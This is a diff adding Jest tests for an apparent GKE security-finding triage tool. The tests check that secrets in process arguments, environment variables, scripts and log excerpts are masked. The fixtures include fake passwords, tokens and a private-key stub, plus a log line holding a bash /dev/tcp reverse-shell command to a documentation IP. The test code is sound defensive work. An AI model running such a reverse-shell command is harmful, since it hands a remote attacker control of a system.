@@ -1,0 +1,51 @@
+import { mkdtempSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { defaultConfig } from '../../src/config';
+import { triage } from '../../src/engine';
+import { ExportedLogSource } from '../../src/logs/exported-logs';
+import { maskMarker } from '../../src/evidence/mask';
+import { loadSample, logsDir } from '../support/fixtures';
+
+const withSecrets = () => {
+  const sample = loadSample('gke-multi-process-remote-command-exec.json');
+  const process = sample.finding.processes[0];
+  process.args = ['curl', '-H', 'Authorization: Bearer abcdefghijklmnop', 'https://u:pw@example.invalid', '--password', 'hunter2'];
+  process.envVariables = [{ name: 'DB_PASSWORD', val: 's3cret' }, { name: 'HOME', val: '/root' }];
+  process.script = { contents: 'export AWS_SECRET_ACCESS_KEY=abc123\n-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----\n' };
+  return sample;
+};
+
+const run = (config = defaultConfig) => triage(withSecrets(), { logs: new ExportedLogSource(logsDir), now: () => new Date() }, config);
+
+describe('secrets in processes', () => {
+  it('are masked in args, env variables and script excerpts by default', async () => {
+    const result = await run();
+    if (result.kind === 'skipped') throw new Error('unexpected');
+    const [process] = result.summary.processes;
+    expect(process!.args).toEqual(['curl', '-H', `Authorization: ${maskMarker}`, `https://u:${maskMarker}@example.invalid`, '--password', maskMarker]);
+    expect(process!.env).toEqual([{ name: 'DB_PASSWORD', value: maskMarker }, { name: 'HOME', value: '/root' }]);
+    expect(process!.script!.excerpt).toBe(`export AWS_SECRET_ACCESS_KEY=${maskMarker}\n-----BEGIN PRIVATE KEY-----${maskMarker}-----END PRIVATE KEY-----\n`);
+    expect(JSON.stringify(result.summary)).not.toMatch(/hunter2|s3cret|abcdefghijklmnop|MIIE|:pw@/);
+  });
+
+  it('are kept when masking is turned off', async () => {
+    const result = await run({ ...defaultConfig, maskSecrets: false });
+    if (result.kind === 'skipped') throw new Error('unexpected');
+    expect(result.summary.processes[0]!.args).toContain('hunter2');
+  });
+});
+
+describe('secrets in log lines', () => {
+  it('are masked in excerpts and highlight details', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'scc-triage-secrets-'));
+    const labels = { project_id: 'acme-payments-prod', location: 'europe-west1', cluster_name: 'payments-gke-1', namespace_name: 'payments', pod_name: 'checkout-api-6d8f9c7b5-q2w8x', container_name: 'checkout-api' };
+    const entry = { insertId: 'x', logName: 'projects/acme-payments-prod/logs/stderr', timestamp: '2025-03-04T14:22:30Z', severity: 'ERROR', resource: { type: 'k8s_container', labels }, textPayload: 'bash -i >& /dev/tcp/203.0.113.45/4444 token=hunter2' };
+    writeFileSync(join(dir, 'entries.ndjson'), `${JSON.stringify(entry)}\n`);
+    const result = await triage(loadSample('gke-reverse-shell.json'), { logs: new ExportedLogSource(dir), now: () => new Date() }, defaultConfig);
+    if (result.kind === 'skipped') throw new Error('unexpected');
+    expect(result.summary.logs[0]!.entries[0]!.text).toBe(`bash -i >& /dev/tcp/203.0.113.45/4444 token=${maskMarker}`);
+    expect(result.summary.highlights.find((h) => h.kind === 'indicator_in_logs')!.detail).toContain(`token=${maskMarker}`);
+    expect(JSON.stringify(result.summary)).not.toContain('hunter2');
+  });
+});
